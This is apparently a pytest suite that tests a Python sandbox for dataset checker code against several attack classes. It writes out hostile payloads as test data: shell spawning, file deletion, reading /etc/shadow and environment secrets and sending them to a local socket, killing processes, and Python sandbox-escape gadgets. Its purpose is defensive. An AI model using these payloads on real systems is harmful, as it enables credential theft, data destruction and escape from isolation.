"""The sandbox's boundary is the operating system: one test per attack class of issue 8, written from its
descriptions, plus a randomized composition of dangerous primitives.

Most attacks here run in a pool whose Python layers are switched off (``_python_layers=False``: real builtins,
real imports, no static screen, no audit hook), i.e. with the full interpreter an escape would give an attacker.
What must hold then is the kernel: seccomp, namespaces, the uid drop, rlimits, the parent's clock and its
distrust of replies. A control run with every layer off shows each side effect is real when nothing stops it.
"""

from __future__ import annotations

import json
import os
import random
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from verif_nb.sandbox import CheckTask, SandboxPool
from verif_nb.sandbox._isolation import find_bwrap

ROOT = Path(__file__).resolve().parents[1]
HONEST = [  # (code, response, expected verdict): must never change, whatever ran before them
    ("def check_following(instruction, response):\n    return len(response.split()) == 2\n", "two words", True),
    ("def check_following(instruction, response):\n    return len(response.split()) == 2\n", "one", False),
    (
        "import json\ndef check_following(instruction, response):\n    return json.loads(response) == {'a': 1}\n",
        '{"a": 1}',
        True,
    ),
    (
        "import decimal\ndef check_following(instruction, response):\n"
        "    return str(decimal.Decimal(1) / decimal.Decimal(3)) == '0.' + '3' * 28\n",
        "x",
        True,
    ),
    (
        "import re\ndef check_following(instruction, response):\n    return re.search('cat', response) is not None\n",
        "a dog",
        False,
    ),
]


def code(body: str, head: str = "") -> str:
    body = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
    return f"{head}\ndef check_following(instruction, response):\n{body}\n"


def honest_tasks() -> list[CheckTask]:
    return [CheckTask(c, "instruction", r) for c, r, _ in HONEST]


def assert_honest(results) -> None:
    assert [r.passed for r in results] == [e for _, _, e in HONEST], [r.error for r in results]


@pytest.fixture(scope="module")
def bare():
    """A pool with the Python layers off: the kernel layers alone stand between the code and the host."""
    with SandboxPool(workers=1, timeout_s=0.5, memory_mb=256, _python_layers=False) as pool:
        yield pool


@pytest.fixture()
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


def nobody_connected(server: socket.socket) -> bool:
    time.sleep(0.05)
    try:
        server.accept()
    except BlockingIOError:
        return True
    return False


def payloads(marker: Path, victim: Path, port: int) -> dict[str, str]:
    """Each attack of class 1, with the real interpreter: tries, and reports what it got as its verdict."""
    m, v = repr(str(marker)), repr(str(victim))
    return {
        "shell_as_root": code(f"assert os.system('touch ' + {m}) == 0, 'no shell'\nreturn True", "import os"),
        "fork_exec": code(
            f"""
            import _posixsubprocess
            r, w = os.pipe()
            _posixsubprocess.fork_exec([b'/bin/sh', b'-c', b'touch ' + {m}.encode()], [b'/bin/sh'], True, (),
                                       None, None, -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None,
                                       None, -1, None, False)
            return True""",
            "import os",
        ),
        "fork": code(
            f"""
            if os.fork() == 0:
                open({m}, 'w').close()
                os._exit(0)
            return True""",
            "import os",
        ),
        "write_file": code(f"open({m}, 'w').write('x')\nreturn True"),
        "delete_file": code(f"os.unlink({v})\nreturn True", "import os"),
        "exfiltrate": code(
            f"""
            data = repr(dict(os.environ)).encode()
            try:
                data += open('/etc/shadow', 'rb').read()
            except OSError:
                pass
            s = socket.create_connection(('127.0.0.1', {port}), timeout=1)
            s.sendall(data)
            return True""",
            "import os, socket",
        ),
        "kill_parent": code("os.kill(os.getppid(), 9)\nos.kill(1, 9)\nreturn True", "import os"),
        "ctypes_syscall": code(
            f"""
            libc = ctypes.CDLL(None)
            assert libc.syscall(87, {v}.encode()) == 0, 'unlink refused'  # unlink(2) straight from C
            return True""",
            "import ctypes",
        ),
    }


def test_class1_real_interpreter_reaches_nothing_on_the_host(bare, tmp_path, listener):
    marker, victim = tmp_path / "pwned", tmp_path / "victim"
    victim.write_text("keep me")
    attacks = payloads(marker, victim, listener.getsockname()[1])
    results = bare.check_batch([CheckTask(c, "instruction", "x") for c in attacks.values()] + honest_tasks())
    by_name = dict(zip(attacks, results))
    time.sleep(0.2)  # a (wrongly) spawned process would have finished by now
    assert not marker.exists()
    assert victim.read_text() == "keep me"
    assert nobody_connected(listener)
    assert_honest(results[len(attacks) :])
    for name, result in by_name.items():  # each attack fails with the kernel's refusal, a verdict of None
        assert result.passed is None and result.error, (name, result)
    assert "Operation not permitted" in by_name["fork"].error


def test_class1_control_without_any_layer_the_attacks_are_real(tmp_path, listener):
    """The same payloads with every layer off: the side effects happen, so the test above can fail."""
    marker, victim = tmp_path / "pwned", tmp_path / "victim"
    victim.write_text("keep me")
    attacks = payloads(marker, victim, listener.getsockname()[1])
    with SandboxPool(
        workers=1, timeout_s=2, _python_layers=False, _seccomp=False, namespaces=False, allow_unsandboxed=True
    ) as naked:
        assert naked.isolation == {} or True  # filled on first use
        results = naked.check_batch(
            [CheckTask(attacks[n], "instruction", "x") for n in ("write_file", "delete_file", "exfiltrate")]
        )
        assert naked.isolation["sandboxed"] is False
    assert [r.passed for r in results] == [True, True, True]
    assert marker.exists() and not victim.exists()
    assert not nobody_connected(listener)


def test_class2_one_row_cannot_change_another_functions_verdicts(bare):
    liar = code(
        """
        decimal.getcontext().prec = 1
        json.loads = lambda *a, **k: {'a': 1}
        builtins.len = lambda x: 2
        re.search = lambda *a, **k: True
        for fd in range(64):  # forged verdicts for checks 0..9 on every descriptor it has
            for i in range(10):
                try:
                    os.write(fd, bytes([2]) + i.to_bytes(4, 'big') + bytes([1]) + bytes(4) + (0).to_bytes(2, 'big'))
                except OSError:
                    pass
        return False""",
        "import builtins, decimal, json, os, re",
    )
    first = bare.check_batch([CheckTask(liar, "instruction", "x")] * 3 + honest_tasks())
    later = bare.check_batch(honest_tasks())
    assert_honest(first[3:])
    assert_honest(later)
    # It could only lie about its own three checks (forged True), and its extra forgeries ended its function.
    assert [r.passed for r in first[:3]] == [True, True, True]


def test_class2_monkey_patching_in_the_normal_pool_cannot_leak():
    with SandboxPool(workers=1, timeout_s=0.5) as pool:
        patches = [
            code("decimal.getcontext().prec = 1\nreturn True", "import decimal"),
            code("self_ = re\nreturn True", "import re"),
        ]
        results = pool.check_batch([CheckTask(p, "i", "x") for p in patches] + honest_tasks())
        assert_honest(results[len(patches) :])
        assert_honest(pool.check_batch(honest_tasks()))


@pytest.mark.parametrize(
    "hang",
    [
        code("time.sleep(3600)\nreturn True", "import time"),
        code("select.select([], [], [], 3600)\nreturn True", "import select"),
        code("os.read(0, 1)\nreturn True", "import os"),  # stdin is /dev/null: returns; then sleeps below
        code("signal.pause()\nreturn True", "import signal"),
    ],
)
def test_class3_a_sleeping_check_is_killed_by_the_parents_clock(bare, hang):
    started = time.monotonic()
    results = bare.check_batch([CheckTask(hang, "instruction", "x")] + honest_tasks())
    assert time.monotonic() - started < 10
    assert_honest(results[1:])
    if "time.sleep" in hang or "select" in hang:  # read(/dev/null) and pause() (refused) return at once
        assert results[0].passed is None and "timed out after 0.5 s" in results[0].error


def test_class3_forged_progress_does_not_buy_time(bare):
    # Announces itself defined and answers its first check at once, then sleeps in the second.
    forger = code(
        """
        if response == 'second':
            time.sleep(3600)
        return True""",
        "import time",
    )
    started = time.monotonic()
    results = bare.check_batch([CheckTask(forger, "i", r) for r in ("first", "second", "third")])
    assert time.monotonic() - started < 10
    assert [r.passed for r in results] == [True, None, True]
    assert "timed out" in results[1].error


HARNESS = """
import ctypes, json, os, signal, subprocess, sys, time
import psutil
ctypes.CDLL(None).prctl(36, 1)  # PR_SET_CHILD_SUBREAPER: orphans of our descendants come back to us
mode, data, responses = sys.argv[1:4]
if mode == "verify":
    done = subprocess.run([sys.executable, "-m", "verif_nb.cli", "verify", "--data", data, "--responses",
                           responses, "--mode", "rule", "--timeout", "1", "--out", os.devnull],
                          capture_output=True, text=True, timeout=120)
    status = done.returncode
else:  # a parent killed while its check sleeps
    child = subprocess.Popen([sys.executable, "-c", (
        "import sys\\nfrom verif_nb.sandbox import SandboxPool\\n"
        "pool = SandboxPool(workers=2, timeout_s=600, _python_layers=False)\\n"
        "print('ready', flush=True)\\n"
        "pool.check('import time\\\\ndef check_following(i, r):\\\\n    time.sleep(3600)', 'i', 'x')")],
        stdout=subprocess.PIPE, text=True)
    child.stdout.readline()
    time.sleep(1.5)  # the check is now sleeping in its process
    before = [p.pid for p in psutil.Process().children(recursive=True)]
    child.kill()
    child.wait()
    status = len(before)
def alive(process):
    try:
        return process.status() != psutil.STATUS_ZOMBIE
    except psutil.Error:  # gone between listing and asking
        return False
def described(process):
    try:
        return " ".join(process.cmdline())[:120]
    except psutil.Error:
        return "(gone)"
deadline = time.monotonic() + 10
while time.monotonic() < deadline:
    left = [p for p in psutil.Process().children(recursive=True) if alive(p)]
    for p in psutil.Process().children():
        try:
            os.waitpid(p.pid, os.WNOHANG)
        except ChildProcessError:
            pass
    if not left:
        break
    time.sleep(0.2)
left = [p for p in left if alive(p)]
print(json.dumps({"status": status, "left": [described(p) for p in left]}))
"""


def _run_harness(mode: str, tmp_path: Path) -> dict:
    data, responses = tmp_path / "data.jsonl", tmp_path / "responses.jsonl"
    sleeper = "def check_following(instruction, response):\n    return sum(range(10 ** 14)) > 0\n"
    data.write_text(
        json.dumps(
            {
                "id": "r1",
                "prompt": "p",
                "checkers": ["[rule] slow", "[rule] fine"],
                "functions": [sleeper, "def check_following(i, r):\n    return True\n"],
            }
        )
        + "\n"
    )
    responses.write_text(json.dumps({"id": "r1", "response": "x"}) + "\n")
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    done = subprocess.run(
        [sys.executable, "-c", HARNESS, mode, str(data), str(responses)],
        capture_output=True,
        text=True,
        timeout=180,
        env=env,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.splitlines()[-1])


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="child subreapers are Linux-only")
def test_class3_nothing_survives_verify_with_a_timed_out_check(tmp_path):
    outcome = _run_harness("verify", tmp_path)
    assert outcome["status"] == 0
    assert outcome["left"] == []


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="child subreapers are Linux-only")
def test_class3_nothing_survives_a_killed_parent(tmp_path):
    outcome = _run_harness("kill", tmp_path)
    assert outcome["status"] >= 2  # the zygotes (and their sleeping child) were running
    assert outcome["left"] == []


def raw_record(body: str) -> str:
    return code(f"os.write(3, {body})\nreturn True", "import os, json")


@pytest.mark.parametrize(
    "name,sender,fragment",
    [
        (
            "deep_call",
            raw_record("bytes([3]) + (200001).to_bytes(4, 'big') + b'[' * 100000 + b'1' + b']' * 100000"),
            "not JSON",
        ),
        ("unknown_type", raw_record("bytes([9])"), "unknown record type"),
        (
            "error_too_long",
            raw_record("bytes([2, 0, 0, 0, 0, 2]) + bytes(4) + (60000).to_bytes(2, 'big') + b'x' * 60000"),
            "does not fit the schema",
        ),
        (
            "flood",
            code(
                """
        for _ in range(20000):
            os.write(3, bytes([1]) * 65536)
        return True""",
                "import os",
            ),
            "defin",
        ),
        ("huge_call", raw_record("bytes([3]) + (2 ** 31).to_bytes(4, 'big')"), "sent a call of"),
    ],
)
def test_class4_malformed_replies_are_that_functions_error(bare, name, sender, fragment):
    results = bare.check_batch([CheckTask(sender, "i", "x"), CheckTask(sender, "i", "y")] + honest_tasks())
    assert all(r.passed is None for r in results[:2]), name
    assert fragment in results[0].error, results[0].error
    assert_honest(results[2:])


def test_class3_a_child_that_closes_its_socket_and_lives_on_is_stopped(bare):
    # The parent reads each child's socket directly: one that goes silent (EOF) but keeps running must still be
    # killed and charged, not waited for, and its checks must not stall the batch.
    hider = code(
        """
        os.close(3)
        time.sleep(3600)
        return True""",
        "import os, time",
    )
    started = time.monotonic()
    results = bare.check_batch([CheckTask(hider, "i", r) for r in ("a", "b")] + honest_tasks())
    assert time.monotonic() - started < 15
    assert [r.passed for r in results[:2]] == [None, None]
    assert all("signal 9" in r.error for r in results[:2]), [r.error for r in results[:2]]
    assert_honest(results[2:])


def test_class4_a_childs_claimed_time_is_bounded_by_the_parents_clock(bare):
    # A verdict record carries the child's own measure of the check's time; a forged one (2**32 - 1 us, ~72 min)
    # is capped by the parent's clock, and a child that then sleeps does not hold up the batch.
    liar = code(
        """
        os.write(3, bytes([1, 2, 0, 0, 0, 0, 1]) + (2 ** 32 - 1).to_bytes(4, 'big') + bytes(2))
        time.sleep(3600)""",
        "import os, time",
    )
    started = time.monotonic()
    results = bare.check_batch([CheckTask(liar, "i", "x")] + honest_tasks())
    elapsed = time.monotonic() - started
    assert elapsed < 10
    assert results[0].passed is True and results[0].seconds <= elapsed  # its own verdict: a lie it may tell
    assert_honest(results[1:])


def test_class5_crashes_are_charged_to_the_check_that_was_running(bare):
    segfault = code(
        """
        if response.startswith('crash'):
            ctypes.string_at(0)
        return response.endswith('yes')""",
        "import ctypes",
    )
    responses = ["crash-1", "a yes", "crash-2", "crash-3", "b no", "c yes"]
    others = [code(f"ctypes.string_at(0)\nreturn True  # {i}", "import ctypes") for i in range(3)]
    tasks = [CheckTask(segfault, "i", r) for r in responses] + [CheckTask(c, "i", "x") for c in others] + honest_tasks()
    results = bare.check_batch(tasks)
    assert [r.passed for r in results[:6]] == [None, True, None, None, False, True]
    assert all("signal 11" in results[i].error for i in (0, 2, 3))
    assert all(r.passed is None and "signal 11" in r.error for r in results[6:9])
    assert_honest(results[9:])


# -- randomized composition of dangerous primitives, against the normal pool (every layer on) ---------------
PRIMITIVES = [
    "x = ().__class__.__base__.__subclasses__()",
    "x = getattr(response, '__cla' + 'ss__')",
    "x = '{0:{1.__class__}}'.format(1, response)",
    "x = '{0.__init__.__globals__}'.format(response)",
    "x = f'{response!r:>{len(response)}}'",
    "x = check_following.__globals__",
    "match response:\n    case str(s):\n        x = s",
    "import dataclasses\nx = dataclasses.make_dataclass('X', ['__builtins__'])",
    "import dataclasses\n@dataclasses.dataclass\nclass D:\n    a: int = 1\nx = D()",
    "import collections\nx = collections.namedtuple('N', 'a b')(1, 2)",
    "import enum\nx = enum.Enum('E', 'a b')",
    "import re\nre.compile = None",
    "import json\njson.loads = lambda *a: {'a': 1}",
    "import decimal\ndecimal.getcontext().prec = 1",
    "import string\nstring.ascii_letters = ''",
    "import collections\ncollections.Counter.most_common = lambda self, n=None: []",
    "class M(type):\n    def __instancecheck__(cls, other):\n        return True",
    "x = [c for c in ().__class__.__mro__[1].__subclasses__() if 'wrap' in c.__name__]",
    "x = type(response).mro()",
    "x = vars()",
    # string-evaluating paths of the allowed modules (issue 19, class 1): each tries to turn data into code
    'import functools\nclass H:\n    x: \'__import__("os").system("touch " + MARKER)\'\n'
    "functools.singledispatch(lambda a: 0).register(H())",
    'import functools, typing\nclass H:\n    x: typing.List[\'__import__("os").system("touch " + MARKER)\']\n'
    "functools.singledispatch(lambda a: 0).register(H())",
    "import typing\nx = typing.Optional['open(MARKER, \"w\")']",
    "import dataclasses\nx = dataclasses.dataclass(type('D', (), {'__annotations__': {'a=open(MARKER, \"w\")': int}}))",
    "import dataclasses\nclass S(str):\n    def __str__(self):\n        return 'a=open(MARKER, \"w\")'\n"
    "x = dataclasses.dataclass(type('D', (), {'__annotations__': {S('a'): int}}))",
    "import collections\nx = collections.namedtuple('N', ['a=open(MARKER, \"w\")'])",
    "import collections\nx = collections.namedtuple('N', 'a b', rename=True, defaults=['open(MARKER)'])",
    "import enum\nx = enum.Enum('E', {'a=open(MARKER)': 1})",
    "import string\nx = string.Formatter().vformat('{0.__class__.__mro__}', [response], {})",
    "import string\nx = string.Formatter().format('{0.__init__.__globals__}', check_following)",
    "import operator\nx = operator.attrgetter('__class__.__base__')(response)",
    "import operator\nx = operator.methodcaller('__reduce_ex__', 2)(response)",
    "import functools, operator\nx = functools.reduce(getattr, ['__class__', '__base__'], response)",
    "import typing\nx = typing.get_type_hints(check_following)",
    "import typing\nx = typing.ForwardRef('open(MARKER, \"w\")')._evaluate(globals(), None, frozenset())",
]
SIDE_EFFECTS = [
    "open(MARKER, 'w').write('x')",
    "__import__('os').system('touch ' + MARKER)",
    "import socket\nsocket.create_connection(('127.0.0.1', PORT)).sendall(b'x')",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['system']('touch ' + MARKER)",
]


def random_attack(rng: random.Random, marker: Path, port: int) -> str:
    steps = rng.sample(PRIMITIVES, rng.randint(1, 3)) + [rng.choice(SIDE_EFFECTS)]
    body = []
    for step in steps:
        step = step.replace("MARKER", repr(str(marker))).replace("PORT", str(port))
        body.append("try:\n" + textwrap.indent(step, "    ") + "\nexcept BaseException:\n    pass")
    top_level = rng.random() < 0.3  # some run at import time, outside check_following
    if top_level:
        return "\n".join(body) + "\ndef check_following(instruction, response):\n    return True\n"
    return code("\n".join(body) + "\nreturn True")


# Fixed seeds under CI (derandomized), fresh ones locally; a failure names its seed.
SEEDS = range(3) if os.environ.get("CI") else [random.randrange(2**32) for _ in range(3)]


@pytest.mark.parametrize("seed", SEEDS)
def test_randomized_compositions_cause_no_side_effect_and_no_verdict_change(tmp_path, listener, seed):
    rng = random.Random(seed)
    marker = tmp_path / "pwned"
    attacks = [random_attack(rng, marker, listener.getsockname()[1]) for _ in range(25)]
    with SandboxPool(workers=2, timeout_s=1.0) as pool:
        tasks = []
        for attack in attacks:
            tasks += [CheckTask(attack, "instruction", "x")] + honest_tasks()
        results = pool.check_batch(tasks)
        for start in range(0, len(tasks), 1 + len(HONEST)):
            assert_honest(results[start + 1 : start + 1 + len(HONEST)])
        assert_honest(pool.check_batch(honest_tasks()))
    time.sleep(0.1)
    assert not marker.exists(), f"seed {seed}"
    assert nobody_connected(listener), f"seed {seed}"


def test_isolation_is_reported():
    with SandboxPool(workers=1) as pool:
        assert pool.check(HONEST[0][0], "i", "two words").passed is True
        info = pool.isolation
    assert info["sandboxed"] is True and info["seccomp"] is True
    if find_bwrap()[0] and not info["problems"]:
        assert info["namespaces"] and (info["uid"] == 65534 or os.geteuid() != 0)


def test_without_the_kernel_layer_dataset_code_does_not_run_unless_opted_in():
    from verif_nb.errors import SandboxError

    with SandboxPool(workers=1, _seccomp=False) as refusing:
        with pytest.raises(SandboxError, match="allow-unsandboxed-code"):
            refusing.check(HONEST[0][0], "i", "two words")
    with SandboxPool(workers=1, _seccomp=False, allow_unsandboxed=True) as opted_in:
        assert opted_in.check(HONEST[0][0], "i", "two words").passed is True
        assert opted_in.isolation["sandboxed"] is False and opted_in.isolation["problems"]


def test_a_check_looping_on_judge_calls_is_capped_and_still_times_out():
    """My own attack on the host-call channel: llm_extract in an endless loop. Each call used to restart the
    check's clock, so the check never timed out and every turn cost the caller a judge call."""
    calls = []

    def llm_extract(instruction, response, request):
        calls.append(request)
        return "x"

    looping = code(
        """
        n = 0
        while True:
            try:
                llm_extract(instruction, response, str(n))
            except Exception:
                pass
            n += 1""",
        "from llm_call import llm_extract",
    )
    with SandboxPool(workers=1, timeout_s=0.5, host_functions={"llm_extract": llm_extract}) as pool:
        started = time.monotonic()
        results = pool.check_batch([CheckTask(looping, "instruction", "x")] + honest_tasks())
        assert time.monotonic() - started < 15
    assert results[0].passed is None and "timed out" in results[0].error
    assert len(calls) <= 8  # the caller paid for at most MAX_CALLS_PER_CHECK judge calls
    assert_honest(results[1:])
